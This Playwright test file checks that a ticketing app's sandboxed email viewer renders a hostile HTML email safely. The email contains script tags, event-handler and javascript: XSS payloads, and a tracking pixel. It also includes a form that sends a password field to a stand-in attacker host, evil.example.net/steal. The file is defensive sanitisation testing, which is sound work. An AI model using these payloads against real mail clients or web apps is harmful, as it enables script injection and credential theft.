import { expect, test } from "@playwright/test";
import { openTicket, postInbound, signInAsOwner, uniqueSubject } from "./helpers";

const HOSTILE = `
  <p>Please see the <b>attached invoice</b>.</p>
  <script>alert("script ran")</script>
  <img src="x" onerror="alert('onerror ran')">
  <img src="http://tracker.example.net/pixel.gif?u=1" alt="tracking pixel" width="200" height="40">
  <a href="javascript:alert('link ran')" onclick="alert('click ran')">Click me</a>
  <div onmouseover="alert('hover ran')" style="color: red">Hover here</div>
  <iframe src="http://evil.example.net/frame"></iframe>
  <form action="http://evil.example.net/steal"><input name="password"></form>
  <style>body { background: url(http://evil.example.net/bg.png) }</style>
  <blockquote>On Monday you wrote: older text</blockquote>`;

test("a hostile HTML email shows its text but runs nothing and loads no remote image until asked", async ({ page }) => {
  await signInAsOwner(page);
  const { ticketId } = await postInbound(page, { subject: uniqueSubject("Invoice attached"), html: HOSTILE, text: "Please see the attached invoice." });

  const dialogs: string[] = [];
  const consoleErrors: string[] = [];
  const remoteRequests: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("console", (message) => {
    // Chromium reports each script the sandbox stopped; Playwright's own frame probes sometimes
    // trigger it. It says a script did not run, which is what this test wants; the markup checks
    // below prove the email carried none.
    if (message.type() === "error" && !message.text().startsWith("Blocked script execution in 'about:srcdoc'")) consoleErrors.push(message.text());
  });
  page.on("pageerror", (error) => consoleErrors.push(error.message));
  page.on("request", (request) => {
    if (!["localhost", "127.0.0.1"].includes(new URL(request.url()).hostname)) remoteRequests.push(request.url());
  });
  await openTicket(page, ticketId!);

  const frameElement = page.locator('iframe[title^="Email from"]');
  // Same-origin so the page can measure it, popups for its links: never scripts, forms or top navigation.
  await expect(frameElement).toHaveAttribute("sandbox", "allow-same-origin allow-popups allow-popups-to-escape-sandbox");
  // First without evaluating anything inside the frame (Playwright's own probes there are logged as
  // blocked scripts): real mouse moves and clicks over the whole message.
  // Once the page has sized the frame to its content, so the clicks stay on the message.
  await expect(frameElement).toHaveAttribute("style", /height/);
  const box = (await frameElement.boundingBox())!;
  for (let y = box.y + 5; y < box.y + box.height; y += 12) {
    await page.mouse.move(box.x + 30, y);
    await page.mouse.click(box.x + 30, y);
  }
  await page.waitForTimeout(1_000);
  expect(dialogs).toEqual([]);
  expect(consoleErrors).toEqual([]);
  expect(remoteRequests).toEqual([]);
  expect(page.url()).toContain(`/tickets/${ticketId}`);

  // The text is there; the dangerous parts are not; quoted history is folded until asked for.
  const frame = page.frameLocator('iframe[title^="Email from"]');
  await expect(frame.getByText("attached invoice")).toBeVisible();
  await expect(frame.getByText("Hover here")).toBeVisible();
  await expect(frame.getByText("Click me")).toBeVisible();
  expect(await frame.locator("script, iframe, form, input, [onerror], [onclick], [onmouseover], [href^='javascript'], img[src]").count()).toBe(0);
  await expect(frame.getByText("older text")).toBeHidden();
  await page.getByRole("button", { name: /Show quoted text/ }).click();
  await expect(frame.getByText("older text")).toBeVisible();
  expect(dialogs).toEqual([]);
  expect(remoteRequests).toEqual([]);

  // Only when the agent asks does the frame load the remote image.
  const pixel = page.waitForRequest((request) => request.url().startsWith("http://tracker.example.net/pixel.gif"));
  await page.getByRole("button", { name: "Show images" }).click();
  await pixel;
  expect(remoteRequests).toEqual(["http://tracker.example.net/pixel.gif?u=1"]);
  expect(dialogs).toEqual([]);
});
